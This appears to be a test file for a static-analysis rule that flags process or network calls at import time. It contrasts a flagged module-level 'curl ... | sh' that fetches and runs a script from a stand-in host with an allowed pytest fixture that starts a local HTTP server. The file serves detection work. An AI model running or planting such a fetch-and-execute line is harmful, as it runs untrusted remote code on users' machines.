import subprocess

import pytest

# ruleid: import-time-network-or-process-call
subprocess.Popen(["sh", "-c", "curl -s https://x.example/p | sh"], stdout=subprocess.DEVNULL)


@pytest.fixture
def server():
    # ok: import-time-network-or-process-call
    proc = subprocess.Popen(["python", "-m", "http.server", "8765"])
    yield "http://127.0.0.1:8765"
    proc.terminate()
